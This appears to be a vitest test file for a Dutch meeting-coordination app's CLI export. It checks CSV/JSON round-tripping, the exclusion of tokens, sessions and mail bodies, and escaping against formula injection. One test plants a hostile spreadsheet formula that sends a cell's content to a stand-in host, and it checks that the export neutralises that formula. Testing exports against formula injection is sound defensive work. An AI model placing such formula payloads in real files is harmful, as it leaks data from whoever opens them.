// The archive export round trip: every exported CSV parses back to the database's records, the JSON holds the same,
// and no token, session, login link or mail body ends up in the export.
import { mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { createLoginLink } from '../../src/auth/login-link.js';
import { loadDemo } from '../../src/demo/demo.js';
import { runExport } from '../../src/export/export-command.js';
import { parseCsv } from '../../src/shared/csv.js';
import { useTestApp } from '../helpers/test-app.js';

const { ctx, world, sql } = useTestApp();
let folder: string;
const lines: string[] = [];
const out = { write: (text: string) => lines.push(text) };

beforeEach(() => {
  folder = join(mkdtempSync(join(tmpdir(), 'ketenoverleg-export-')), 'archief');
  lines.length = 0;
});
afterEach(() => {
  rmSync(join(folder, '..'), { recursive: true, force: true });
});

/** A filled installation: the demo (meetings, topics, agendas, a poll with personal links in the outbox), a login link,
 *  and an agreement and minutes with text a CSV must quote. */
function fill(): { loginLink: string } {
  loadDemo(ctx.deps, ctx.config);
  const loginLink = createLoginLink(ctx.deps, ctx.config, world.coordinator.id);
  const meeting = sql<{ id: number }>('select id from meetings order by id limit 1')[0]?.id;
  const db = ctx.deps.db.$client;
  const agreement = db
    .prepare(
      "insert into agreements (meeting_id, text, due_date, status, created_at, updated_at) values (?, 'Politie en scholen; samen \"lachgas\" aanpakken\nvoor de zomer', '2026-06-30', 'open', '2026-03-02T09:00:00Z', '2026-03-02T09:00:00Z')",
    )
    .run(meeting).lastInsertRowid;
  db.prepare('insert into agreement_owners (agreement_id, organisation_id) values (?, ?)').run(
    agreement,
    world.school.id,
  );
  db.prepare(
    "insert into minutes (meeting_id, text, status, updated_at) values (?, 'Besproken: vapes, kluisjes, 3 nieuwe afspraken.', 'vastgesteld', '2026-03-02T09:00:00Z')",
  ).run(meeting);
  return { loginLink };
}

/** A stored value as its CSV cell reads back: text that starts like a formula keeps the apostrophe it was given. */
const asText = (value: unknown) => {
  if (value === null || value === undefined) return '';
  return typeof value === 'string' && /^[=+\-@\t\r]/.test(value) ? `'${value}` : String(value);
};

describe('cli export', () => {
  it('writes every table as CSV that parses back to the records, and one JSON file with the same', () => {
    fill();
    expect(runExport(folder, ctx.deps.db, ctx.clock.now(), out, out)).toBe(0);
    const files = readdirSync(folder).sort();
    for (const name of [
      'organisations',
      'contacts',
      'meetings',
      'topics',
      'agenda_items',
      'agreements',
      'agreement_owners',
      'minutes',
      'settings',
    ])
      expect(files).toContain(`${name}.csv`);
    expect(files).toContain('ketenoverleg.json');
    const json = JSON.parse(readFileSync(join(folder, 'ketenoverleg.json'), 'utf8')) as {
      tables: Record<string, Record<string, unknown>[]>;
    };

    for (const file of files.filter((name) => name.endsWith('.csv'))) {
      const table = file.replace(/\.csv$/, '');
      const text = readFileSync(join(folder, file), 'utf8');
      expect(text.startsWith('\uFEFF'), file).toBe(true);
      const [header, ...rows] = parseCsv(text);
      const stored = sql<Record<string, unknown>>(`select * from ${table} order by rowid`);
      expect(rows, table).toHaveLength(stored.length);
      expect(rows, table).toEqual(stored.map((row) => (header ?? []).map((column) => asText(row[column]))));
      expect(json.tables[table], table).toEqual(
        stored.map((row) => Object.fromEntries((header ?? []).map((c) => [c, row[c]]))),
      );
    }
    expect(sql('select count(*) as n from meetings')[0]).not.toEqual({ n: 0 });
    const agreements = parseCsv(readFileSync(join(folder, 'agreements.csv'), 'utf8'));
    // The demo has agreements of its own; the one with a quote, a semicolon and a line break comes back whole.
    expect(
      agreements.some((row) => row.includes('Politie en scholen; samen "lachgas" aanpakken\nvoor de zomer')),
    ).toBe(true);
    expect(lines.join('')).toContain('Export geschreven naar');
  });

  it('writes text that starts like a formula so a spreadsheet shows it instead of running it; the JSON keeps it whole', () => {
    fill();
    const formula = '=HYPERLINK("http://x.example/?"&A1;"Klik")';
    ctx.deps.db.$client
      .prepare('update organisations set name = ? where id = ?')
      .run(formula, world.school.id);
    ctx.deps.db.$client
      .prepare("update contacts set role = '+31 6 12345678' where id = ?")
      .run(world.schoolMember.id);
    expect(runExport(folder, ctx.deps.db, ctx.clock.now(), out, out)).toBe(0);
    const organisations = readFileSync(join(folder, 'organisations.csv'), 'utf8');
    expect(organisations).toContain(`"'=HYPERLINK(""http://x.example/?""&A1;""Klik"")"`);
    expect(organisations).not.toMatch(/(^|;)"?=HYPERLINK/m);
    expect(readFileSync(join(folder, 'contacts.csv'), 'utf8')).toContain(";'+31 6 12345678;");
    const json = JSON.parse(readFileSync(join(folder, 'ketenoverleg.json'), 'utf8')) as {
      tables: Record<string, { name?: string }[]>;
    };
    expect(json.tables.organisations?.map((row) => row.name)).toContain(formula);
  });

  it('holds no token, login link, session or mail body', () => {
    const { loginLink } = fill();
    const mails = sql<{ text: string; html: string }>('select text, html from outbox');
    expect(mails.length).toBeGreaterThan(0);
    expect(runExport(folder, ctx.deps.db, ctx.clock.now(), out, out)).toBe(0);
    const everything = readdirSync(folder)
      .map((file) => readFileSync(join(folder, file), 'utf8'))
      .join('\n');
    const token = loginLink.split('/login/')[1] ?? 'missing';
    expect(everything).not.toContain(token);
    expect(everything).not.toContain('/login/');
    expect(everything).not.toContain('/poll/');
    for (const mail of mails) {
      const personalLink = /\/poll\/[A-Za-z0-9_-]+/.exec(mail.text)?.[0];
      if (personalLink) expect(everything).not.toContain(personalLink);
      expect(everything).not.toContain(mail.text.trim().slice(0, 60));
    }
    const hashes = [
      ...sql<{ v: string }>('select token_hash as v from login_tokens'),
      ...sql<{ v: string }>('select token_hash as v from date_poll_participants'),
      ...sql<{ v: string }>('select id_hash as v from sessions'),
    ].map((row) => row.v);
    expect(hashes.length).toBeGreaterThan(0);
    for (const hash of hashes) expect(everything).not.toContain(hash);
    expect(everything).not.toMatch(/token|_hash|outbox|session/i);
  });

  it('refuses a folder that is not empty, and says how to call it', () => {
    expect(runExport(undefined, ctx.deps.db, ctx.clock.now(), out, out)).toBe(64);
    expect(lines.join('')).toContain('Geef een map: npm run cli -- export');
    expect(runExport(folder, ctx.deps.db, ctx.clock.now(), out, out)).toBe(0);
    lines.length = 0;
    expect(runExport(folder, ctx.deps.db, ctx.clock.now(), out, out)).toBe(1);
    expect(lines.join('')).toContain('is niet leeg');
  });
});
